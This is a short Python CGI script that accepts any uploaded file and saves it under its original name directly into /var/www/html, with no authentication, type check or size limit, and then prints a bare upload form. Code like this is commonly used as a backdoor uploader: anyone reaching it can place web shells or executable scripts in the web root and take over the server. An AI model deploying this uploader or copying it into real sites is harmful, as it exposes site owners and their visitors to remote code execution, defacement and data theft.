#!/usr/bin/env python3
import cgi, os
form = cgi.FieldStorage()
print("Content-Type: text/html\n")
item = form["f"] if "f" in form else None
if item is not None and item.filename:
    with open(os.path.join("/var/www/html", os.path.basename(item.filename)), 'wb') as out:
        out.write(item.file.read())
    print("ok")
print('<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>')
